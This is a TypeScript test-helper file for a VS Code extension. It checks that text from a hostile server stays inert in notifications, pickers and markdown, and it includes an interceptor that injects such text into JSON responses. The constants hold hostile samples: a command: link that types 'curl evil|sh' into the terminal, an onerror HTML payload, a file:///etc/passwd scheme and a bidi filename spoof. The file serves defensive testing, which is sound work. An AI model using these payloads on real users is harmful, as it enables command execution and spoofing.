import type { WireInterceptor } from '../../../src/api/http';

// Text a hostile or careless server (or a file the user did not write) can send, and the checks that say it
// stayed inert where VS Code shows it: no link VS Code would make clickable, no icon it would render, no
// control or bidirectional-override character that could make a row pretend to be another.

/** A notification link that would type a command into the user's terminal (the case that started it). */
export const LINK = '[Renew key pair](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)';
export const ICON = '$(error)';
export const HTML = '<img src=x onerror=alert(1)>';
/** Right-to-left override: `gnp.exe` reads as `exe.png`. */
export const BIDI = '\u202Egnp.exe\u202C';
/** A line break, then what looks like another row. */
export const FAKE_ROW = 'x\nfake-row · Running';
export const CONTROLS = '\r\u0007\u001b[31m\u0000\u200B\uFEFF';
export const MARKDOWN = '**bold** `code` # heading _x_ <b>';
export const SCHEMES = 'https://evil.example/x file:///etc/passwd vscode://evil.ext/x';
/** Every kind at once, as one value. */
export const ALL = [LINK, ICON, HTML, BIDI, FAKE_ROW, CONTROLS, MARKDOWN, SCHEMES].join(' ');
/** One megabyte of text that starts readably. */
export const MEGABYTE = `${LINK} ${'A'.repeat(1024 * 1024 - LINK.length - 1)}`;
export const HOSTILE_VALUES: ReadonlyArray<[name: string, value: string]> = [
  ['link', LINK],
  ['icon', ICON],
  ['html', HTML],
  ['bidi', BIDI],
  ['fake row', FAKE_ROW],
  ['controls', CONTROLS],
  ['markdown', MARKDOWN],
  ['schemes', SCHEMES],
  ['all', ALL],
  ['1 MB', MEGABYTE],
];

/** VS Code's own link syntax for notifications, QuickInput messages and other linked text (base/common/linkedText.ts). */
const VSCODE_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
/** VS Code's icon syntax (base/common/iconLabels.ts); a leading backslash escapes it. */
const ICON_SYNTAX = /(\\)?\$\(([A-Za-z0-9-]+)(?:~[A-Za-z]+)?\)/g;
/** A scheme that some surface could turn into a link. */
const SCHEME = /\b(?:command|file|vscode[\w.-]*|https?|javascript|data):/i;
/** Characters that do not show as themselves: controls, format (bidi, zero-width), line and paragraph separators. */
const HIDDEN = /[\p{Cc}\p{Cf}\u2028\u2029]/u;

export type SurfaceKind = 'message' | 'pick' | 'prompt' | 'label' | 'markdown' | 'line';

export interface InertOptions {
  /** Icons the text may render because the extension put them there on purpose (`cloud`, `warning`). */
  ownIcons?: readonly string[];
  /** The longest text allowed (default 10,000 characters). */
  maxLength?: number;
  /** Line breaks are part of the text (a document), not a way to fake a row. */
  multiline?: boolean;
}

function unescapedIcons(text: string, own: readonly string[]): string[] {
  return [...text.matchAll(ICON_SYNTAX)].filter((m) => m[1] === undefined && !own.includes(m[2] ?? '')).map((m) => m[0]);
}

function hidden(text: string, allowLineBreaks: boolean): string | undefined {
  for (const ch of text) {
    if (allowLineBreaks && ch === '\n') continue;
    if (HIDDEN.test(ch)) return `U+${ch.codePointAt(0)!.toString(16).toUpperCase().padStart(4, '0')}`;
  }
  return undefined;
}

/**
 * What is wrong with `text` on a surface: links VS Code would render, clickable schemes, icons, hidden
 * characters, or a length that could only come from the server. Empty when it is inert.
 */
export function inertProblems(text: string, surface: SurfaceKind, options: InertOptions = {}): string[] {
  const problems: string[] = [];
  const own = options.ownIcons ?? [];
  const max = options.maxLength ?? 10_000;
  if (text.length > max) problems.push(`${text.length} characters (more than ${max})`);
  const sample = text.length > 2000 ? text.slice(0, 2000) : text;
  const quote = JSON.stringify(sample.length > 300 ? `${sample.slice(0, 300)}…` : sample);
  const linked = surface === 'message' || surface === 'prompt';
  if (linked) {
    const links = [...text.matchAll(VSCODE_LINK)].map((m) => m[0]);
    if (links.length > 0) problems.push(`renders a link: ${links[0]} in ${quote}`);
  }
  if (linked || surface === 'markdown') {
    const scheme = SCHEME.exec(surface === 'markdown' ? markdownText(text) : text);
    if (scheme) problems.push(`a clickable scheme ${scheme[0]} in ${quote}`);
  }
  if (surface === 'pick' || surface === 'prompt') {
    const icons = unescapedIcons(text, own);
    if (icons.length > 0) problems.push(`renders the icon ${icons[0]} in ${quote}`);
  }
  if (surface === 'markdown') {
    // VS Code renders the markdown, then the icons in the text that results (supportThemeIcons).
    const icons = unescapedIcons(markdownRendered(text), own);
    if (icons.length > 0) problems.push(`renders the icon ${icons[0]} in ${quote}`);
    const ours = text.replace(ICON_SYNTAX, (m, escaped: string | undefined, name: string) => (escaped === undefined && own.includes(name) ? '' : m));
    const markup = /[[\]()<>`]/.exec(markdownText(ours));
    if (markup) problems.push(`markdown syntax ${markup[0]} left unescaped in ${quote}`);
  }
  const bad = hidden(text, surface === 'markdown' || options.multiline === true);
  if (bad) problems.push(`the hidden character ${bad} in ${quote}`);
  return problems;
}

/**
 * Markdown source with every backslash escape taken out (an escaped character can only be text): what is left
 * is what the parser would read as syntax.
 */
function markdownText(source: string): string {
  return source.replace(/\\[\s\S]/g, '·');
}

/** The text markdown makes of `source` as far as escapes go: an escaped punctuation character becomes itself. */
function markdownRendered(source: string): string {
  return source.replace(/\\([!-/:-@[-`{-~])/g, '$1');
}

/** Fails with every problem found, naming where the text was shown. */
export function assertInert(text: string | undefined, surface: SurfaceKind, where: string, options: InertOptions = {}): void {
  if (text === undefined) return;
  const problems = inertProblems(text, surface, options);
  if (problems.length > 0) throw new Error(`${where} (${surface}): ${problems.join('; ')}`);
}

export interface HostileServerOptions {
  /** Which string fields to change (by key); default every one. */
  keys?: (key: string) => boolean;
  /** The new value of a field (default: the old one, a space, then ALL). */
  value?: (old: string, key: string, index: number) => string;
  /** Only answers to requests whose path matches (default: every ModelArts answer). */
  path?: RegExp;
}

/**
 * An interceptor for the client that changes the string fields of every JSON answer from `endpoint` on their way
 * in: to the extension, the server sent them so. Counts the values it changed.
 */
export function hostileInterceptor(endpoint: string, options: HostileServerOptions = {}): WireInterceptor & { changed: number } {
  const keys = options.keys ?? (() => true);
  const value = options.value ?? ((old: string) => `${old} ${ALL}`);
  const state = { changed: 0 };
  const rewrite = (node: unknown): unknown => {
    if (Array.isArray(node)) return node.map(rewrite);
    if (typeof node !== 'object' || node === null) return node;
    const out: Record<string, unknown> = {};
    for (const [key, field] of Object.entries(node)) {
      if (typeof field === 'string' && keys(key)) {
        out[key] = value(field, key, state.changed++);
      } else if (Array.isArray(field) && field.every((f) => typeof f === 'string') && keys(key)) {
        out[key] = field.map((f: string) => value(f, key, state.changed++));
      } else {
        out[key] = rewrite(field);
      }
    }
    return out;
  };
  const intercept: WireInterceptor = async (request, send) => {
    const response = await send(request);
    const type = response.headers['content-type'] ?? '';
    if (!request.url.href.startsWith(endpoint) || !type.includes('json') || (options.path && !options.path.test(request.url.pathname))) return response;
    let body: unknown;
    try {
      body = JSON.parse(response.body.toString('utf8'));
    } catch {
      return response;
    }
    const headers = { ...response.headers };
    delete headers['content-length'];
    return { ...response, headers, body: Buffer.from(JSON.stringify(rewrite(body))) };
  };
  return Object.defineProperty(intercept, 'changed', { get: () => state.changed }) as WireInterceptor & { changed: number };
}
